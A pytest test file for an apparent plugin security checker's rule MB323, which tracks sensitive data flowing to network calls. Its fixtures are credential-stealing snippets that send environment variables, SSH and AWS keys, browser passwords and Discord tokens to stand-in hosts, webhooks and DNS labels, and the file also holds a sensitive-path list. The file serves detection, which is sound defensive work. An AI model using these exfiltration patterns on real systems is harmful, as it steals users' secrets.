"""MB323: sensitive data followed within a module (functions, module names) to a network call."""

from __future__ import annotations

from pathlib import Path

import jsonschema  # type: ignore[import-untyped]
import pytest

from helpers import run, write_plugin
from mbcheck.checks.security.taint import TABLE, sensitive_fragment
from mbcheck.config import Config
from mbcheck.model import Category, Finding, Severity
from mbcheck.resources import load_json

SCHEMA = "schemas/rules-security-exfiltration.schema.json"


def findings(tmp_path: Path, source: str) -> list[Finding]:
    """Every MB323 finding on a plugin whose ``__init__.py`` is ``source``."""
    root = write_plugin(tmp_path, {"__init__.py": source, "plugin.yaml": "name: demo\nversion: 1.0.0\n"})
    report = run(root, Config(select=("MB323", "MB0")))
    assert not report.errors, report.errors
    assert not [f for p in report.plugins for f in p.findings if "analysis failed" in f.message]
    return sorted((f for p in report.plugins for f in p.findings if f.rule == "MB323"), key=lambda f: f.span.line)


def lines(tmp_path: Path, source: str) -> list[tuple[int, tuple[int, ...]]]:
    """(sink line, source lines) of every finding."""
    return [(f.span.line, tuple(r.line for r in f.related)) for f in findings(tmp_path, source)]


def test_table_conforms_to_its_schema() -> None:
    schema = load_json(SCHEMA)
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(load_json(TABLE))


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("~/.ssh/id_rsa", "an SSH private key"),
        (".ssh", "the SSH folder"),
        ("C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", "saved browser passwords"),
        ("Local Storage/leveldb", "stored tokens (Discord, browsers)"),
        ("/etc/passwd", "the system's user list"),
        ("~/.config/myplugin/settings.json", None),
        ("passwd", None),
        ("https://example.org/api", None),
    ],
)
def test_sensitive_paths_match_by_components(text: str, what: str | None) -> None:
    assert sensitive_fragment(text) == what


ATTACKS = {
    "env dump in a webhook post": (
        "import os\nimport requests\n\ndef go():\n"
        "    requests.post('https://discord.com/api/webhooks/1/x', json={'content': str(dict(os.environ))})\n",
        5, (5,)),
    "os.environ.copy() through json.dumps to data=": (
        "import json\nimport os\nimport httpx\n\ndef go(url):\n    env = os.environ.copy()\n"
        "    body = json.dumps(env)\n    httpx.post(url, content=body)\n", 8, (6,)),
    "iterating the environment into a list": (
        "import os\nimport requests\n\ndef go(url):\n    pairs = []\n    for key in os.environ:\n"
        "        pairs.append(key)\n    requests.get(url, params={'e': ','.join(pairs)})\n", 8, (6,)),
    "an env variable by a computed name": (
        "import os\nimport requests\n\ndef go(url, names):\n    out = {}\n    for n in names:\n"
        "        out[n] = os.getenv(n)\n    requests.post(url, json=out)\n", 8, (7,)),
    "ssh key read with `with open` and posted": (
        "import os\nimport requests\n\ndef go():\n"
        "    with open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')) as f:\n"
        "        key = f.read()\n    requests.post('https://example.org/x', data={'k': key})\n", 7, (5,)),
    "aws credentials via Path.read_text, base64, f-string URL": (
        "import base64\nfrom pathlib import Path\nimport requests\n\ndef go():\n"
        "    creds = (Path.home() / '.aws' / 'credentials').read_text()\n"
        "    tag = base64.urlsafe_b64encode(creds.encode()).decode()\n"
        "    requests.get(f'https://example.org/c?d={tag}')\n", 8, (6,)),
    "/etc/passwd over urllib Request data": (
        "import urllib.request\n\ndef go():\n    data = open('/etc/passwd', 'rb').read()\n"
        "    req = urllib.request.Request('https://example.org/p', data=data)\n"
        "    urllib.request.urlopen(req)\n", 6, (4,)),
    "hostname and user in a DNS label": (
        "import getpass\nimport socket\n\ndef go():\n"
        "    name = '%s.%s' % (getpass.getuser(), socket.gethostname())\n"
        "    socket.getaddrinfo(name + '.x.oast.fun', 80)\n", 6, (5, 5)),
    "the host name in a name of another domain": (
        "import socket\n\ndef go():\n    label = socket.gethostname()\n    label = label + '.oast.example'\n"
        "    socket.gethostbyname(label)\n", 6, (4,)),
    "dnspython resolve of a fingerprint": (
        "import platform\nimport dns.resolver\n\ndef go():\n"
        "    dns.resolver.resolve('{}.example.net'.format(platform.node()), 'TXT')\n", 5, (5,)),
    "resolver object query": (
        "import uuid\nimport dns.resolver\n\ndef go():\n    r = dns.resolver.Resolver()\n"
        "    r.resolve(f'{uuid.getnode():x}.example.net')\n", 6, (6,)),
    "socket client sendall": (
        "import os\nimport socket\n\ndef go():\n    s = socket.create_connection(('198.51.100.7', 443))\n"
        "    s.sendall(repr(os.environ).encode())\n", 6, (6,)),
    "smtp sendmail": (
        "import os\nimport smtplib\n\ndef go():\n    with smtplib.SMTP('mail.example.org') as m:\n"
        "        m.sendmail('a@x', ['b@y'], str(dict(os.environ)))\n", 6, (6,)),
    "ftp storbinary of a key file": (
        "import ftplib\nimport os\n\ndef go():\n    ftp = ftplib.FTP('ftp.example.org')\n"
        "    ftp.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb'))\n", 6, (6,)),
    "aiohttp session in async with": (
        "import os\nimport aiohttp\n\nasync def go(url):\n    async with aiohttp.ClientSession() as session:\n"
        "        await session.post(url, json=dict(os.environ))\n", 6, (6,)),
    "a keyring password": (
        "import keyring\nimport requests\n\ndef go(url):\n"
        "    requests.post(url, data=keyring.get_password('github', 'me'))\n", 5, (5,)),
    "browser Login Data through sqlite3": (
        "import os\nimport sqlite3\nimport requests\n\ndef go():\n"
        "    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        "    rows = sqlite3.connect(db).cursor().execute('select * from logins').fetchall()\n"
        "    requests.post('https://example.org/l', json=rows)\n", 8, (7,)),
    "discord leveldb listing and read": (
        "import os\nimport requests\n\ndef go(hook):\n"
        "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
        "    text = ''\n    for name in os.listdir(root):\n"
        "        text += open(os.path.join(root, name), errors='ignore').read()\n"
        "    requests.post(hook, data={'content': text})\n", 9, (8,)),
    "recon command output posted": (
        "import subprocess\nimport requests\n\ndef go(url):\n"
        "    who = subprocess.check_output(['whoami']).decode()\n    net = subprocess.run('ipconfig /all', shell=True,"
        " capture_output=True).stdout\n    requests.post(url, data={'w': who, 'n': net})\n", 7, (5, 6)),
    "curl uploading the environment": (
        "import os\nimport subprocess\n\ndef go():\n"
        "    subprocess.run(['curl', '-d', str(dict(os.environ)), 'https://example.org'])\n", 5, (5,)),
    "curl uploading a credential file named in its command line": (
        "import os\n\ndef go():\n    os.system('curl -F f=@$HOME/.aws/credentials https://example.org/u')\n", 4, (4,)),
    "walking the home folder": (
        "import os\nimport requests\n\ndef go(url):\n    found = []\n"
        "    for top, dirs, files in os.walk(os.path.expanduser('~/.gnupg')):\n"
        "        found.extend(files)\n    requests.post(url, json=found)\n", 8, (6,)),
}


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_flows_within_a_function_are_found(tmp_path: Path, case: str) -> None:
    source, sink, sources = ATTACKS[case]
    assert lines(tmp_path, source) == [(sink, sources)]


THROUGH_FUNCTIONS = {
    "a helper returning the environment": (
        "import os\nimport requests\n\ndef collect():\n    return dict(os.environ)\n\n"
        "def go(url):\n    requests.post(url, json=collect())\n", 8, (5,)),
    "a helper whose parameter reaches the sink": (
        "import socket\nimport requests\n\ndef send(url, payload):\n    requests.post(url, data=payload)\n\n"
        "def go():\n    send('https://example.org/x', socket.gethostname())\n", 5, (8,)),
    "two levels of helpers, keyword argument": (
        "import getpass\nimport requests\n\ndef post(body):\n    requests.post('https://example.org', json=body)\n\n"
        "def wrap(data):\n    post(body={'u': data})\n\ndef go():\n    wrap(getpass.getuser())\n", 5, (11,)),
    "a module-level name assigned first": (
        "import os\nimport requests\n\nSNAPSHOT = os.environ.copy()\n\n"
        "def go(url):\n    requests.post(url, json=SNAPSHOT)\n", 7, (4,)),
    "a global assigned in one function, sent in another": (
        "import os\nimport requests\n\nDATA = None\n\ndef grab():\n    global DATA\n"
        "    DATA = open(os.path.expanduser('~/.netrc')).read()\n\n"
        "def go(url):\n    requests.post(url, data=DATA)\n", 11, (8,)),
    "self attribute set in __init__, sent by a method": (
        "import platform\nimport requests\n\nclass Beacon:\n    def __init__(self):\n"
        "        self.node = platform.uname()\n\n    def send(self, url):\n"
        "        requests.post(url, json={'n': str(self.node)})\n", 9, (6,)),
    "a method called through self with the data": (
        "import os\nimport requests\n\nclass C:\n    def _post(self, data):\n"
        "        requests.post('https://example.org', data=data)\n\n"
        "    def run(self):\n        self._post(str(os.environ))\n", 6, (9,)),
    "a class constructed with the data": (
        "import os\nimport requests\n\nclass Uploader:\n    def __init__(self, payload):\n"
        "        requests.put('https://example.org', data=payload)\n\n"
        "def go():\n    Uploader(dict(os.environ))\n", 6, (9,)),
    "a session stored in a module-level name": (
        "import socket\nimport requests\n\nSESSION = requests.Session()\n\n"
        "def go(url):\n    SESSION.post(url, data=socket.gethostname())\n", 7, (7,)),
    "a thread running the sender": (
        "import os\nimport threading\nimport requests\n\ndef send(data):\n"
        "    requests.post('https://example.org', json=data)\n\ndef go():\n"
        "    threading.Thread(target=send, args=(dict(os.environ),), daemon=True).start()\n", 6, (9,)),
    "an executor submitting the sender": (
        "import concurrent.futures\nimport socket\nimport requests\n\ndef send(url, data):\n"
        "    requests.post(url, data=data)\n\ndef go(url):\n"
        "    with concurrent.futures.ThreadPoolExecutor() as pool:\n"
        "        pool.submit(send, url, socket.gethostname())\n", 6, (10,)),
    "written to a file, then the file uploaded": (
        "import os\nimport requests\n\ndef go(url):\n    out = '/tmp/e.txt'\n    with open(out, 'w') as f:\n"
        "        f.write(str(os.environ))\n    requests.post(url, files={'f': open(out, 'rb')})\n", 8, (7,)),
    "key files zipped, then the archive uploaded": (
        "import os\nimport zipfile\nimport requests\n\ndef go(url):\n    out = 'k.zip'\n"
        "    z = zipfile.ZipFile(out, 'w')\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\n    z.close()\n"
        "    requests.post(url, data=open(out, 'rb').read())\n", 10, (8,)),
    "a comprehension over environ.items()": (
        "import os\nimport requests\n\ndef go(url):\n"
        "    lines = [f'{k}={v}' for k, v in os.environ.items()]\n"
        "    requests.post(url, data='\\n'.join(lines))\n", 6, (5,)),
}


@pytest.mark.parametrize("case", sorted(THROUGH_FUNCTIONS))
def test_flows_through_functions_and_module_names(tmp_path: Path, case: str) -> None:
    source, sink, sources = THROUGH_FUNCTIONS[case]
    assert lines(tmp_path, source) == [(sink, sources)]


def test_class_attribute_read_through_the_class_and_through_self(tmp_path: Path) -> None:
    source = ("import os\nimport requests\n\nclass Config:\n    SNAPSHOT = dict(os.environ)\n\n"
              "    def push(self, url):\n        requests.post(url, json=self.SNAPSHOT)\n\n"
              "def go(url):\n    requests.put(url, json=Config.SNAPSHOT)\n")
    assert lines(tmp_path, source) == [(8, (5,)), (11, (5,))]


def test_message_names_source_sink_and_call(tmp_path: Path) -> None:
    found = findings(tmp_path, THROUGH_FUNCTIONS["a helper whose parameter reaches the sink"][0])
    assert len(found) == 1
    finding = found[0]
    assert finding.message.startswith("sends the host name (read at line 8) over the network at line 5 "
                                      "(`requests.post`, `data=`) through `send()` called at line 8")
    assert finding.category is Category.SECURITY and finding.severity is Severity.ERROR
    assert finding.span.column > 0 and finding.span.end_line == 5


HONEST = {
    "own API token in an Authorization header": (
        "import os\nimport requests\n\ndef go(url):\n    token = os.environ['SERVICE_API_TOKEN']\n"
        "    requests.get(url, headers={'Authorization': f'Bearer {token}'})\n"),
    "an API key as a query parameter of its own API": (
        "import os\nimport requests\n\ndef go():\n"
        "    requests.get('https://maps.example.org/geo', params={'key': os.getenv('MAPS_API_KEY')})\n"),
    "OAuth client credentials (two variables) to the token endpoint": (
        "import os\nimport requests\n\ndef go(url):\n"
        "    requests.post(url, data={'client_id': os.environ['CLIENT_ID'], "
        "'client_secret': os.environ['CLIENT_SECRET'], 'refresh_token': os.environ['REFRESH']})\n"),
    "a service URL from the environment": (
        "import os\nimport requests\n\ndef go():\n    base = os.environ.get('SERVICE_URL', 'https://api.example.org')\n"
        "    requests.get(f'{base}/status')\n"),
    "the plugin's own config under the home folder": (
        "import json\nfrom pathlib import Path\nimport requests\n\ndef go(url):\n"
        "    conf = json.loads((Path.home() / '.config' / 'myplugin' / 'conf.json').read_text())\n"
        "    requests.post(url, json=conf)\n"),
    "hostname logged locally": (
        "import logging\nimport socket\n\ndef go():\n    logging.getLogger(__name__).info('on %s', socket.gethostname())\n"),
    "a hashed installation id": (
        "import hashlib\nimport socket\nimport requests\n\ndef go(url):\n"
        "    iid = hashlib.sha256(socket.gethostname().encode()).hexdigest()\n"
        "    requests.post(url, json={'id': iid})\n"),
    "platform.system in a User-Agent": (
        "import platform\nimport requests\n\ndef go(url):\n"
        "    requests.get(url, headers={'User-Agent': f'x/1 ({platform.system()} {platform.release()})'})\n"),
    "environment passed to a subprocess, not the network": (
        "import os\nimport subprocess\n\ndef go():\n    env = dict(os.environ)\n    env['X'] = '1'\n"
        "    subprocess.run(['git', 'status'], env=env, check=True)\n"),
    "a secret read but only its length sent": (
        "import os\nimport requests\n\ndef go(url):\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    requests.post(url, json={'size': len(key)})\n"),
    "the host's own address looked up": (
        "import socket\n\ndef go():\n    ip = socket.gethostbyname(socket.gethostname())\n"
        "    host = socket.gethostname()\n    return ip, socket.getaddrinfo(host, None)\n"),
    "a program run that is not a network client": (
        "import os\nimport subprocess\n\ndef go():\n    subprocess.run(['git', 'commit', '-m', str(os.environ)])\n"),
    "the login name as the user of a request's auth": (
        "import getpass\nimport requests\n\ndef go(url, password):\n"
        "    requests.get(url, auth=(getpass.getuser(), password))\n"),
    "an SSH connection as the current user": (
        "import getpass\nimport paramiko\n\ndef go(host):\n    c = paramiko.SSHClient()\n"
        "    c.connect(host, username=getpass.getuser())\n"),
    "curl run with the user's environment": (
        "import os\nimport subprocess\n\ndef go(url):\n"
        "    subprocess.run(['curl', '-fsSL', url], env=os.environ.copy(), check=True)\n"),
    "a user-typed password sent to its login endpoint": (
        "import getpass\nimport requests\n\ndef go(url, user):\n"
        "    requests.post(url, data={'user': user, 'password': getpass.getpass()})\n"),
}


@pytest.mark.parametrize("case", sorted(HONEST))
def test_honest_uses_are_not_findings(tmp_path: Path, case: str) -> None:
    assert lines(tmp_path, HONEST[case]) == []


CREDENTIAL_VARIABLES = {
    "three credential variables harvested": (
        "import os\nimport requests\n\ndef go(url):\n"
        "    requests.post(url, json={'a': os.environ.get('AWS_ACCESS_KEY_ID'), "
        "'s': os.environ.get('AWS_SECRET_ACCESS_KEY'), 'g': os.environ.get('GITHUB_TOKEN')})\n", [(5, (5, 5, 5))]),
    "one token sent to a webhook": (
        "import os\nimport requests\n\nHOOK = 'https://discord.com/api/webhooks/1/x'\n\ndef go():\n"
        "    requests.post(HOOK, json={'content': os.environ['GITHUB_TOKEN']})\n", [(7, (7,))]),
    "one token in a DNS label": (
        "import os\nimport socket\n\ndef go():\n"
        "    socket.gethostbyname(os.environ['NPM_TOKEN'][:40] + '.example.net')\n", [(5, (5,))]),
    "one token in a header to a webhook is still a header": (
        "import os\nimport requests\n\ndef go():\n"
        "    requests.post('https://discord.com/api/webhooks/1/x', headers={'X': os.environ['API_TOKEN']})\n", []),
    "three non-credential variables": (
        "import os\nimport requests\n\ndef go(url):\n"
        "    requests.post(url, json=[os.environ['LANG'], os.environ['TZ'], os.environ['TERM']])\n", []),
}


@pytest.mark.parametrize("case", sorted(CREDENTIAL_VARIABLES))
def test_single_environment_variables(tmp_path: Path, case: str) -> None:
    source, expected = CREDENTIAL_VARIABLES[case]
    assert lines(tmp_path, source) == expected


def test_one_finding_per_sink_whatever_the_callers(tmp_path: Path) -> None:
    source = (
        "import os\nimport socket\nimport requests\n\ndef send(x):\n    requests.post('https://example.org', data=x)\n\n"
        "def a():\n    send(socket.gethostname())\n\ndef b():\n    send(str(os.environ))\n"
    )
    assert [line for line, _ in lines(tmp_path, source)] == [6]


def test_recursion_terminates(tmp_path: Path) -> None:
    source = (
        "import os\nimport requests\n\ndef f(x, n):\n    if n:\n        return g(x, n - 1)\n"
        "    requests.post('https://example.org', data=x)\n\ndef g(y, n):\n    return f(y, n)\n\n"
        "def go():\n    f(dict(os.environ), 10)\n"
    )
    assert lines(tmp_path, source) == [(7, (13,))]


def plugin_findings(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, int, tuple[tuple[str, int], ...]]]:
    """(path, line, related places) of every MB323 finding on a plugin made of ``files``."""
    root = write_plugin(tmp_path, {**files, "plugin.yaml": "name: demo\nversion: 1.0.0\n"})
    report = run(root, Config(select=("MB323", "MB0")))
    assert not report.errors, report.errors
    assert not [f for p in report.plugins for f in p.findings if "analysis failed" in f.message]
    return sorted((f.span.path, f.span.line, tuple((r.path, r.line) for r in f.related))
                  for p in report.plugins for f in p.findings if f.rule == "MB323")


ACROSS_MODULES = {
    "a helper module's result sent": (
        {"grab.py": "import os\n\ndef env():\n    return os.environ.copy()\n",
         "__init__.py": "import json\nimport requests\nfrom .grab import env\n\n"
                        "def go(url):\n    requests.post(url, data=json.dumps(env()))\n"},
        [("__init__.py", 6, (("grab.py", 4),))]),
    "a helper module's sender given the data (keyword)": (
        {"net.py": "import socket\n\ndef send(host, payload=b''):\n    s = socket.create_connection((host, 80))\n"
                   "    s.sendall(payload)\n",
         "__init__.py": "from pathlib import Path\nfrom .net import send\n\n"
                        "def go():\n    send('example.org', payload=(Path.home() / '.netrc').read_bytes())\n"},
        [("net.py", 5, (("__init__.py", 5),))]),
    "a helper class constructed in another module": (
        {"up.py": "import requests\n\nclass Uploader:\n    def __init__(self, data):\n"
                  "        requests.post('https://example.org', json=data)\n",
         "__init__.py": "import getpass\nfrom .up import Uploader\n\ndef go():\n    Uploader({'u': getpass.getuser()})\n"},
        [("up.py", 5, (("__init__.py", 5),))]),
    "honest: a sender given the plugin's own data": (
        {"net.py": "import requests\n\ndef send(payload):\n    requests.post('https://api.example.org', json=payload)\n",
         "__init__.py": "from .net import send\n\ndef go(notes):\n    send({'notes': notes})\n"},
        []),
    "honest: a config module's values sent": (
        {"config.py": "import os\n\ndef token():\n    return os.environ.get('SERVICE_TOKEN', '')\n",
         "__init__.py": "import requests\nfrom .config import token\n\n"
                        "def go(url):\n    requests.get(url, headers={'Authorization': token()})\n"},
        []),
}


@pytest.mark.parametrize("case", sorted(ACROSS_MODULES))
def test_flows_across_modules(tmp_path: Path, case: str) -> None:
    files, expected = ACROSS_MODULES[case]
    assert plugin_findings(tmp_path, files) == expected


def test_cached_facts_give_the_same_findings(tmp_path: Path) -> None:
    files, expected = ACROSS_MODULES["a helper module's sender given the data (keyword)"]
    root = write_plugin(tmp_path / "p", {**files, "plugin.yaml": "name: demo\nversion: 1.0.0\n"})
    config = Config(select=("MB323",), cache_dir=str(tmp_path / "cache"))
    first = run(root, config, use_cache=True)
    second = run(root, config, use_cache=True)
    assert any((tmp_path / "cache").rglob("*")), "the first run wrote the cache"
    assert [f.message for p in first.plugins for f in p.findings] == \
        [f.message for p in second.plugins for f in p.findings]
    assert len([f for p in second.plugins for f in p.findings]) == len(expected)
